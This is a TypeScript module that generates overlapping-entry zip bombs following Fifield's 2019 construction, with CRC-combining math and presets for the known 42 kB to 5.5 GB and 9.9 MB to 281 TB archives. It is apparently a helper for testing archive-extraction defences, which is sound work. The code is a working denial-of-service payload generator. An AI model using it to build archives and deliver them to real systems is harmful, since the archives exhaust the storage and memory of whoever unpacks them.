import { constants, crc32, deflateRawSync } from 'node:zlib'

export type Bomb = {
  bytes: Buffer
  /** The entries in the order of their bytes: each begins `offset` bytes into the archive and unpacks to `size` bytes. */
  entries: { name: string; offset: number; packed: number; size: number; crc: number }[]
  /** Sum of the sizes, in bytes. */
  total: number
}

const times = (matrix: readonly number[], vector: number) => {
  let sum = 0
  for (let bit = 0, rest = vector; rest !== 0; bit++, rest >>>= 1) if (rest & 1) sum ^= matrix[bit] ?? 0
  return sum >>> 0
}

// Like crc32_combine of zlib: the n-th matrix extends a checksum by 2 ** n zero bytes.
const oneZero = Buffer.alloc(1)
const first = Array.from({ length: 32 }, (_, bit) => (crc32(oneZero, (1 << bit) >>> 0) ^ crc32(oneZero, 0)) >>> 0)
const overZeros = [first]
for (let half = first; overZeros.length < 33; overZeros.push(half)) {
  const before = half
  half = before.map((column) => times(before, column))
}

const crcOfBoth = (one: number, other: number, otherLength: number) => {
  let crc = one
  for (let n = 0, rest = otherLength; rest > 0; n++, rest = Math.floor(rest / 2))
    if (rest % 2 === 1) crc = times(overZeros[n] ?? [], crc)
  return (crc ^ other) >>> 0
}

/** Zeros, deflated: a piece without references to earlier bytes may follow itself. */
const kernelOf = (piece: number, pieces: number) => {
  const zeros = Buffer.alloc(piece)
  const packed = deflateRawSync(zeros, { level: 9, memLevel: 9, finishFlush: constants.Z_FULL_FLUSH })
  const end = Buffer.from([3, 0])
  let crc = 0
  for (let n = 0; n < pieces; n++) crc = crcOfBoth(crc, crc32(zeros), piece)
  return { bytes: Buffer.concat([...Array.from({ length: pieces }, () => packed), end]), crc, size: piece * pieces }
}

const header = ({ name, packed, size, crc }: Omit<Bomb['entries'][number], 'offset'>) => {
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(crc, 14)
  head.writeUInt32LE(packed, 18)
  head.writeUInt32LE(size, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, Buffer.from(name)])
}

const directoryEntry = ({ name, offset, packed, size, crc }: Bomb['entries'][number]) => {
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(20, 4)
  entry.writeUInt16LE(20, 6)
  entry.writeUInt16LE(8, 10)
  entry.writeUInt32LE(crc, 16)
  entry.writeUInt32LE(packed, 20)
  entry.writeUInt32LE(size, 24)
  entry.writeUInt16LE(name.length, 28)
  entry.writeUInt32LE(offset, 42)
  return Buffer.concat([entry, Buffer.from(name)])
}

/**
 * A zip archive whose entries overlap (D. Fifield, A better zip bomb, 2019): each quotes the header of the next one in a stored
 * block, so that all of them unpack to the same kernel, of `piece * pieces` zeros. At most 65,534 entries, and 4 GiB for each.
 */
export const overlapZip = ({ count, piece, pieces }: { count: number; piece: number; pieces: number }): Bomb => {
  const kernel = kernelOf(piece, pieces)
  let next = { name: (count - 1).toString(36), packed: kernel.bytes.length, size: kernel.size, crc: kernel.crc }
  const entries = [{ ...next, offset: 0 }]
  const backwards: Buffer[] = [kernel.bytes, header(next)]
  for (let n = count - 2; n >= 0; n--) {
    const quoted = header(next)
    const block = Buffer.alloc(5)
    block.writeUInt16LE(quoted.length, 1)
    block.writeUInt16LE(~quoted.length & 0xffff, 3)
    next = {
      name: n.toString(36),
      packed: next.packed + block.length + quoted.length,
      size: next.size + quoted.length,
      crc: crcOfBoth(crc32(quoted), next.crc, next.size),
    }
    entries.push({ ...next, offset: 0 })
    backwards.push(block, header(next))
  }
  entries.reverse()
  let at = 0
  for (const entry of entries) {
    entry.offset = at
    at += 30 + entry.name.length + 5
  }
  const files = Buffer.concat(backwards.toReversed())
  const directory = Buffer.concat(entries.map(directoryEntry))
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(files.length, 16)
  return { bytes: Buffer.concat([files, directory, end]), entries, total: entries.reduce((sum, { size }) => sum + size, 0) }
}

/** The two well-known archives of this construction: 42 kB that unpack to 5.5 GB, and 9.9 MB that unpack to 281 TB. */
export const knownBombs = [
  ['42 kB that hold 5.5 GB', { count: 250, piece: 21_806_000, pieces: 1 }],
  ['9.9 MB that hold 281 TB', { count: 65_534, piece: 4 * 2 ** 20, pieces: 1023 }],
] as const
